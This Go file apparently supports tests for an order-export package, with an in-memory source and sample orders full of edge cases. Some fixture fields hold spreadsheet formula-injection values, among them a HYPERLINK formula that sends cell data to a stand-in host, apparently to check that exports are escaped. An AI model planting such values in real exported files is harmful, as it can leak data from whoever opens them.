package export

import (
	"context"
	"slices"
	"time"

	"github.com/orderdeck/orderdeck/store"
	"github.com/orderdeck/orderdeck/store/order"
)

// memory is a source that holds its orders as they are.
type memory struct {
	shops   []store.Shop
	records []order.Record
	query   store.Query // the last one
	fail    error       // instead of the end
}

func (m *memory) Shops(context.Context) ([]store.Shop, error) { return m.shops, nil }

// Each leaves the journals out, as the database does.
func (m *memory) Each(ctx context.Context, q store.Query, ids []uint32, fn func(*order.Record) error) error {
	return m.EachWhole(ctx, q, ids, func(r *order.Record) error {
		r.Journal = nil
		return fn(r)
	})
}

func (m *memory) EachWhole(ctx context.Context, q store.Query, ids []uint32, fn func(*order.Record) error) error {
	m.query = q
	if ids == nil {
		for _, r := range m.records {
			ids = append(ids, uint32(r.ID))
		}
	}
	for _, id := range ids {
		if err := ctx.Err(); err != nil {
			return err
		}
		i := slices.IndexFunc(m.records, func(r order.Record) bool { return r.ID == int64(id) })
		if i < 0 {
			continue
		}
		r := m.records[i]
		if err := fn(&r); err != nil {
			return err
		}
	}
	return m.fail
}

func (m *memory) Stream(ctx context.Context, q store.Query, ids []uint32, fields []store.Field, fn func(store.Values) error) error {
	v := store.NewFlat(fields)
	return m.Each(ctx, q, ids, func(r *order.Record) error {
		v.Set(r)
		return fn(v)
	})
}

func at2026(month time.Month, day, hour, minute int) time.Time {
	return time.Date(2026, month, day, hour, minute, 5, 0, time.UTC)
}

// sample is a small set of orders with everything that is awkward.
func sample() *memory {
	brl := func(n int64) order.Money { return order.New(n, "BRL") }
	records := []order.Record{
		{
			Order: order.Order{
				Store: "aurora", ExternalID: "9001", Number: "1001", Currency: "BRL",
				CreatedAt: at2026(11, 2, 2, 30), UpdatedAt: at2026(11, 3, 12, 0),
				CustomerPayment: order.PaymentPaid, Fulfilment: order.FulfilmentPartial, Refund: order.CaseNone,
				Resend: order.ResendNone, Lifecycle: order.LifecycleOpen, RawStatus: "PartiallyShipped",
				Customer: order.Customer{Name: "João D'Ávila", Email: "joao@example.com", Phone: "+55 11 5555-0103", TaxID: "123.456.789-09"},
				Shipping: order.Address{
					Name: "João D'Ávila", Line1: "Rua das Flores, 12", Line2: "ap. 3", City: "São Paulo", Province: "SP",
					PostalCode: "01310-100", Country: "BR", Phone: "+55 11 5555-0103",
				},
				Billing: order.Address{Name: "João D'Ávila", Line1: "Rua das Flores, 12", City: "São Paulo", Province: "SP", PostalCode: "01310-100", Country: "BR"},
				Lines: []order.Line{
					{
						ExternalID: "l1", ProductID: "p1", SKU: "LS-M", Title: "Linen shirt", Variant: "M", Quantity: order.Units(2),
						Fulfilled: order.Units(2), UnitPrice: brl(14495), Discount: brl(1000), Tax: brl(300), Total: brl(27990),
					},
					{ExternalID: "l2", ProductID: "p2", SKU: "-CAP", Title: "=Cap; \"red\"", Quantity: order.Units(1), UnitPrice: brl(5000), Total: brl(5000)},
				},
				Payments: []order.Payment{
					{ExternalID: "t0", At: at2026(11, 2, 2, 31), Method: "card", State: "Declined", Amount: brl(34490), Error: "no funds"},
					{ExternalID: "t1", At: at2026(11, 2, 2, 40), Method: "pix", State: "Settled", Amount: brl(34490), Settled: true, Reference: "E2E-77"},
				},
				Fulfilments: []order.Shipment{{
					ExternalID: "f1", At: at2026(11, 3, 11, 0), State: "Shipped", Live: true, Shipped: true, Carrier: "Correios", Tracking: "BR123456789BR",
					Lines: []order.ShipmentLine{{LineID: "l1", Quantity: order.Units(2)}},
				}},
				Notes:    []order.Note{{At: at2026(11, 3, 9, 0), Kind: "note", Text: "VIP", Author: "ana"}},
				Subtotal: brl(32990), Discount: brl(1000), ShippingCost: brl(1500), Tax: brl(300), TaxIncluded: true, Total: brl(34490),
				Paid: brl(34490), CustomerNote: "Please ring\nthe bell; \"twice\"", Tags: []string{"vip", "wholesale"}, Source: "web",
				PaymentMethod: "pix", ShippingMethod: "PAC", DiscountCodes: []string{"WELCOME"},
			},
			State: order.State{
				Stage: order.StageUnpaid, Partly: true, Suppliers: []string{"Lumen EU", "Nova"}, Cost: brl(12000), CostKnown: true,
				Hold: order.HoldNone, Claim: order.CaseNone,
				Groups: []order.Group{
					{
						Supplier: "Lumen EU", Lines: []int{0}, Stage: order.StageShipped, Cost: brl(9000), CostKnown: true,
						Placement: &order.Placement{Reference: "r1", Supplier: "Lumen EU", State: order.PlacementShipped},
					},
					{Supplier: "Nova", Lines: []int{1}, Stage: order.StageUnpaid, Cost: brl(3000), CostKnown: true},
				},
				Exceptions: []order.Exception{{Code: order.ExceptionStoreNotTold, Text: "…"}},
			},
			Links: []order.Link{
				{Store: "aurora", ProductKey: "sku:LS-M", Supplier: "Lumen EU", SupplierSKU: "LUM-1", Cost: brl(4500), CostKnown: true},
				{Store: "aurora", ProductKey: "sku:-CAP", Supplier: "Nova", SupplierSKU: "N-9", Cost: brl(3000), CostKnown: true},
			},
			Placements: []order.Placement{{
				Reference: "r1", Store: "aurora", ExternalID: "9001", Supplier: "Lumen EU", Lines: []string{"l1"}, State: order.PlacementShipped,
				Total: brl(9000), Parcels: []order.Parcel{{Tracking: "BR123456789BR"}, {Tracking: "LU-2"}}, UpdatedAt: at2026(11, 3, 12, 0),
			}},
			Journal:   []order.Entry{{At: at2026(11, 3, 12, 1), Who: "sync:aurora", Field: "fulfilment", Before: "unfulfilled", After: "partial"}},
			FirstSeen: at2026(11, 2, 2, 35), LastSeen: at2026(11, 3, 12, 1),
		},
		{
			Order: order.Order{
				Store: "nordic", ExternalID: "gid:2", Number: "1001", Currency: "JPY", CreatedAt: at2026(11, 1, 23, 59),
				CustomerPayment: order.PaymentPending, Fulfilment: order.Unfulfilled, Lifecycle: order.LifecycleOpen,
				Customer: order.Customer{Name: "=HYPERLINK(\"http://x/?d=\"&A1,\"click\")", Email: "@evil", Phone: "0901234567"},
				Shipping: order.Address{Name: "山田 健太", Line1: "渋谷区1-2-3", City: "東京", PostalCode: "'150-0001", Country: "JP"},
				Lines:    []order.Line{{ExternalID: "a", Title: "Tea", Quantity: 15000, UnitPrice: order.New(1508, "JPY"), Total: order.New(2262, "JPY"), Digital: true}},
				Subtotal: order.New(2262, "JPY"), Total: order.New(2262, "JPY"), CustomerNote: "＝SUM(A1)",
			},
			State: order.State{
				Stage: order.StageAwaiting, Hold: order.HoldFraud, Claim: order.CaseNone, Suppliers: []string{"Lumen EU"},
				Cost: order.New(500, "USD"), CostKnown: true, LateAt: at2026(12, 1, 0, 0),
				Groups: []order.Group{{Supplier: "Lumen EU", Lines: []int{0}, Stage: order.StageAwaiting, Cost: order.New(500, "USD"), CostKnown: true}},
			},
			FirstSeen: at2026(11, 2, 0, 0), LastSeen: at2026(11, 2, 0, 0), Gone: true,
		},
		{
			Order: order.Order{
				Store: "nordic", ExternalID: "gid:3", Number: "1002", Currency: "KWD", CreatedAt: at2026(7, 1, 12, 0), UpdatedAt: at2026(7, 2, 12, 0),
				CustomerPayment: order.PaymentRefunded, Fulfilment: order.FulfilmentReturned, Refund: order.CasePaid, Lifecycle: order.LifecycleCancelled,
				Customer: order.Customer{Name: "Zażółć Gęślą", Email: "z@example.pl"},
				Subtotal: order.New(1250, "KWD"), Total: order.Money{Minor: 1250, Currency: "KWD", Exact: "1.25004"}, Paid: order.New(1250, "KWD"),
				Refunded: order.New(1250, "KWD"), Archived: true, Test: true, CancelReason: "customer",
			},
			State:     order.State{Stage: order.StageCancelled, Hold: order.HoldNone, Claim: order.CaseNone},
			FirstSeen: at2026(7, 1, 13, 0), LastSeen: at2026(7, 3, 0, 0),
		},
		{
			Order: order.Order{
				Store: "aurora", ExternalID: "9004", Number: "1003", Currency: "CLP", CreatedAt: at2026(11, 21, 14, 2), UpdatedAt: at2026(11, 21, 14, 2),
				CustomerPayment: order.PaymentPartiallyPaid, Fulfilment: order.Fulfilled, Lifecycle: order.LifecycleOpen,
				Customer: order.Customer{Name: "  Spaces & tabs  ", Email: "s@example.cl"},
				Lines: []order.Line{
					{ExternalID: "x", Title: "Poncho", Quantity: order.Units(1), Fulfilled: order.Units(1), UnitPrice: order.New(163056, "CLP"), Total: order.New(163056, "CLP")},
				},
				Fulfilments: []order.Shipment{{ExternalID: "f", At: at2026(11, 21, 15, 0), Live: true, Shipped: true, Tracking: "CL1"}},
				Subtotal:    order.New(163056, "CLP"), Total: order.New(163056, "CLP"), Paid: order.New(100000, "CLP"),
			},
			State:     order.State{Stage: order.StageShipped, Hold: order.HoldNone, Claim: order.CaseNone, Groups: []order.Group{{Lines: []int{0}, Stage: order.StageShipped}}},
			FirstSeen: at2026(11, 21, 14, 3), LastSeen: at2026(11, 21, 14, 3),
		},
	}
	for i := range records {
		records[i].ID = int64(i + 1)
	}
	return &memory{
		shops:   []store.Shop{{Name: "aurora", Demo: true}, {Name: "nordic"}},
		records: records,
	}
}

func saoPaulo() *time.Location {
	zone, err := time.LoadLocation("America/Sao_Paulo")
	if err != nil {
		panic(err)
	}
	return zone
}
